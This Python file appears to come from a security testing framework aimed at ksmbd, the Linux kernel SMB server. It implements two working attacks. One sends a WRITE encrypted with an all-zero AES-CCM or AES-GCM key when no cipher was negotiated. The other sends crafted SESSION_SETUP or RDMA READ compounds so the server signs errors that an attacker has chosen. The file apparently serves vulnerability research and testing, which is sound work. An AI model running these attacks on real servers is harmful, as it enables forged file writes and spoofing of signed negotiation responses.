# SPDX-License-Identifier: GPL-2.0
"""A14: encryption by a key that everyone knows. A15: signed errors that an attacker has chosen."""
import struct

from smb import crypto, wire
from smb.attack import Verdict, Victim, attack, judge
from smb.attacks_malformed import answers, element
from smb.message import pack_compound
from smb.transport import ConnectionClosed
from smb.wire import Command, Header, Status

RDMA_V1 = 1     # Channel, MS-SMB2 2.2.19


@attack("A14", lambda variant: variant.dialect.startswith("3") and not variant.ciphers)
def zero_key(target):
    """No cipher was negotiated, so ksmbd has no decryption key but zeroes; it decrypts with them."""
    for cipher in ("ccm", "gcm"):
        with Victim(target) as victim:
            write, = [victim.conn._numbered(victim.write(sign="none"))]
            frame = crypto.encrypt(getattr(crypto, f"AES128_{cipher.upper()}"), bytes(16),
                                   victim.session.id, pack_compound([write], victim.conn.algorithm))
            victim.conn.transport.send(frame)
            yield f"write encrypted by zeroes, {cipher}", judge(
                lambda: victim.conn.wait(write), victim.forged)


def padded(frame):
    """An element as the first of a compound."""
    return frame + bytes(-len(frame) % 8)


def read_by_rdma():
    """The body of a READ whose data would go by RDMA."""
    return struct.pack("<HBBIQ16sIIIHH", 49, 0, 0, 1, 0, b"\xff" * 16, 0, RDMA_V1, 0, 0, 0) + b"\0"


def unsigned_compound(victim, command, body):
    """An element that the server has an error of its own for, and an IOCTL: what it signs."""
    first, second = victim.conn.next_id, victim.conn.next_id + 1
    head = padded(element(command, first, victim.session.id, body=body))
    head = element(command, first, victim.session.id, next_command=len(head), body=body)
    frame = padded(head) + element(Command.IOCTL, second, victim.session.id, body=bytes(57))
    victim.conn.transport.sock.settimeout(2)
    try:
        victim.conn.transport.send(frame)
        came, _ = answers(victim.conn)
    except ConnectionClosed:
        came = []
    came = [Header.unpack(raw) for raw in came]
    told = {wire.status_name(header.status) for header in came
            if any(header.signature) and header.status != Status.ACCESS_DENIED}
    return Verdict("answered" if told else "refused", None, f"(signed: {' '.join(sorted(told)) or 'nothing else'})")


@attack("A15")
def chosen_errors(target):
    """A client takes some errors for the answer to VALIDATE_NEGOTIATE_INFO of an old server."""
    bodies = ((Command.SESSION_SETUP, struct.pack("<HBBIIHHQ", 25, 0, 1, 0, 0, 88, 1, 0) + b"\0"),
              (Command.READ, read_by_rdma()))
    for command, body in bodies:
        with Victim(target) as victim:
            yield f"{command.name} and IOCTL", unsigned_compound(victim, command, body)
